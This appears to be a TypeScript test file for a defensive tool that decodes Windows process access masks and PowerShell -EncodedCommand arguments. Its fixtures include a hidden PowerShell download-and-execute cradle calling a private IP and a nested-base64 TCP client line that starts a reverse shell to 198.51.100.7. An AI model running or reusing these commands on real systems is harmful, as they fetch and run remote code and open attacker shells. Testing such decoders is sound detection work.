import { describe, expect, it } from 'vitest';
import { decodeProcessAccess, describeAccess, parseAccessMask } from './access-mask.js';
import { decodeBase64Text, decodeEncodedCommand } from './encoded-command.js';

const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('access masks', () => {
  it('parses hex and decimal', () => {
    expect(parseAccessMask('0x1410')).toBe(0x1410);
    expect(parseAccessMask('0x001F3FFF')).toBe(0x1f3fff);
    expect(parseAccessMask('5136')).toBe(5136);
    expect(parseAccessMask('full')).toBeUndefined();
  });
  it('names rights and says what they allow', () => {
    const a = decodeProcessAccess(0x1410);
    expect(a.rights).toEqual(['PROCESS_VM_READ', 'PROCESS_QUERY_INFORMATION', 'PROCESS_QUERY_LIMITED_INFORMATION']);
    expect(a.readsMemory).toBe(true);
    expect(a.writesMemory).toBe(false);
    expect(a.full).toBe(false);
    const all = decodeProcessAccess(0x1fffff);
    expect(all.full).toBe(true);
    expect(all.rights).toEqual(['PROCESS_ALL_ACCESS']);
    expect(decodeProcessAccess(0x1000).readsMemory).toBe(false);
    expect(decodeProcessAccess(0x143a).writesMemory).toBe(true);
    expect(describeAccess('0x40')).toBe('PROCESS_DUP_HANDLE');
  });
});

describe('encoded commands', () => {
  it('decodes -EncodedCommand and its abbreviations', () => {
    const b = utf16b64('IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5:8443/a")');
    expect(decodeEncodedCommand('C:\\W\\powershell.exe', `powershell.exe -NoP -sta -w 1 -enc ${b}`)).toEqual(['IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5:8443/a")']);
    expect(decodeEncodedCommand('C:\\W\\powershell.exe', `powershell /EncodedCommand ${b}`)?.[0]).toContain('DownloadString');
    expect(decodeEncodedCommand('C:\\W\\powershell.exe', `powershell -e ${b}`)?.[0]).toContain('Net.WebClient');
  });
  it('decodes nested base64 strings', () => {
    const inner = Buffer.from('$c = New-Object Net.Sockets.TCPClient("198.51.100.7", 443)', 'utf8').toString('base64');
    const outer = utf16b64(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${inner}')))`);
    const out = decodeEncodedCommand('C:\\W\\powershell.exe', `powershell -nop -w hidden -encodedcommand ${outer}`)!;
    expect(out).toHaveLength(2);
    expect(out[1]).toContain('198.51.100.7');
  });
  it('gives nothing for plain commands or garbage', () => {
    expect(decodeEncodedCommand('C:\\W\\powershell.exe', 'powershell -ExecutionPolicy Bypass -File a.ps1')).toBeUndefined();
    expect(decodeEncodedCommand('C:\\W\\powershell.exe', 'powershell -enc !!!notbase64')).toBeUndefined();
    expect(decodeBase64Text(Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]).toString('base64'))).toBeUndefined();
  });
});
